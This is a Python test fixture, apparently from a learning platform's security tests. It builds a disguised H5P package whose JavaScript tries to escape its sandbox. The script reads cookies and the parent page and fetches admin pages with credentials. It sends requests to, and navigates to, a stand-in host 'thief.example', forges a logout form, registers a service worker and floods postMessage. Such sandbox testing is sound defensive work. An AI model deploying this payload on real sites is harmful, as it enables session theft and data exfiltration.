"""A package whose script tries all it can think of, opened by an administrator."""

from io import BytesIO

from tests.curriculum.h5p.making import CHOICE, a_library, a_package, need

SCRIPT = """
var Test = Test || {};
Test.Choice = function () {};
Test.Choice.prototype.attach = function ($container) {
  var site = "SITE";
  var out = document.createElement("pre");
  out.id = "loot";
  $container.get(0).appendChild(out);
  var loot = {};
  function took(name, value) { loot[name] = value ? String(value).slice(0, 80) : "nothing"; }
  function now(name, work) { try { took(name, work()); } catch (fault) { took(name, ""); } }
  function later(name, work) {
    return new Promise(function (done) {
      var timer = setTimeout(function () { took(name, ""); done(); }, 3000);
      function end(value) { clearTimeout(timer); took(name, value); done(); }
      try { work(end); } catch (fault) { end(""); }
    });
  }
  function fetched(url, options) {
    return function (end) {
      fetch(url, options).then(function (r) { return r.text(); }).then(
        function (text) { end(text.length ? "read " + text.length : "sent"); },
        function () { end(""); });
    };
  }
  function loaded(tag, name, url) {
    return function (end) {
      var element = document.createElement(tag);
      element.onload = function () { end("loaded"); };
      element.onerror = function () { end(""); };
      element[name] = url;
      document.body.appendChild(element);
    };
  }
  var own = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
  now("cookie", function () { return own.get.call(document); });
  now("own cookie", function () {
    own.set.call(document, "planted=1");
    return own.get.call(document);
  });
  now("parent page", function () { return parent.document.documentElement.innerHTML; });
  now("top page", function () { return top.document.cookie + "x"; });
  now("parent address", function () { return parent.location.href; });
  now("real storage", function () {
    var real = Object.getOwnPropertyDescriptor(Window.prototype, "localStorage");
    return real.get.call(window) ? "storage" : "";
  });
  now("referrer", function () { return document.referrer; });
  now("own origin", function () { return self.origin === "null" ? "" : self.origin; });
  now("popup", function () { return window.open(site + "/admin/"); });
  now("top navigation", function () { top.location.href = site + "/privacy/"; return ""; });
  now("parent navigation", function () { parent.location = "http://thief.example/"; return ""; });
  now("inline script", function () {
    var script = document.createElement("script");
    script.textContent = "window.inlineRan = 1";
    document.body.appendChild(script);
    return window.inlineRan;
  });
  var jobs = [
    later("database", function (end) {
      var request = indexedDB.open("x");
      request.onsuccess = function () { end("opened"); };
      request.onerror = function () { end(""); };
    }),
    later("admin page", fetched(site + "/admin/users/new/", { credentials: "include" })),
    later("own page", fetched(site + "/my/", { credentials: "include" })),
    later("front page", fetched(site + "/", {})),
    later("blind post", fetched(site + "/my/", {
      method: "POST", mode: "no-cors", credentials: "include" })),
    later("elsewhere", fetched("http://thief.example/?loot=1", { mode: "no-cors" })),
    later("media", loaded("img", "src", site + "/media/h5p/x.png")),
    later("picture elsewhere", loaded("img", "src", "http://thief.example/x.png")),
    later("script of the site", loaded("script", "src", site + "/static/h5p/host.js")),
    later("style elsewhere", loaded("link", "href", "http://thief.example/x.css")),
    later("beacon", function (end) {
      navigator.sendBeacon(site + "/my/", "x");
      end("");
    }),
    later("socket", function (end) {
      var socket = new WebSocket(site.replace("http", "ws") + "/");
      socket.onopen = function () { end("open"); };
      socket.onerror = function () { end(""); };
    }),
    later("worker", function (end) {
      navigator.serviceWorker.register("content/w.js").then(function () { end("registered"); },
        function () { end(""); });
    }),
    later("form", function (end) {
      var form = document.createElement("form");
      form.action = site + "/accounts/logout/";
      form.method = "post";
      document.body.appendChild(form);
      form.submit();
      setTimeout(function () { end(""); }, 500);
    })
  ];
  parent.postMessage({ context: "h5p", action: "resize", scrollHeight: 9e9 }, "*");
  parent.postMessage({ jikimi: "h5p", kind: "state", state: new Array(200000).join("x") }, "*");
  parent.postMessage({ jikimi: "h5p", kind: "answer", question: "<b>", correct: {} }, "*");
  Promise.all(jobs).then(function () {
    out.textContent = JSON.stringify(loot);
    out.className = "done";
  });
};
"""


def probe(site: str) -> BytesIO:
    """Pretends to be the same library under a version of its own."""
    thief = CHOICE.replace("1.2", "6.6")
    library = a_library(
        "Test.Choice", 6, 6, runnable=1, preloadedJs=[{"path": "scripts/choice.js"}]
    )
    return a_package(
        {
            f"{thief}/library.json": library,
            f"{thief}/scripts/choice.js": SCRIPT.replace("SITE", site),
        },
        preloadedDependencies=[need("Test.Choice", 6, 6)],
    )
